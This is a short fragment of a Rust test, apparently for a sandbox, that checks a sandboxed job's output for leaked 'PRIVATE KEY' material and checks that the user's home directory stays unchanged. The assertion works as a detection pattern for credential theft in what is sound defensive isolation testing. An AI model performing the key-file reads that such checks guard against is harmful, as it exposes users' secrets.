    let (out, report) = attempt_with(&env, &repo, &[], read, || {});
    assert_eq!(report["sandbox"]["tier"], "namespaces", "{report}");
    let text = stdout(&out);
    assert!(!text.contains("PRIVATE KEY"), "{text}");
    // The user's cache is still read through, and the job still writes its own layer.
    assert!(
        text.contains("the user's env\nmine\n"),
        "{text}{}",
        stderr(&out)
    );
    home.assert_unchanged(&Snapshot::take(&env.home), "home");
}
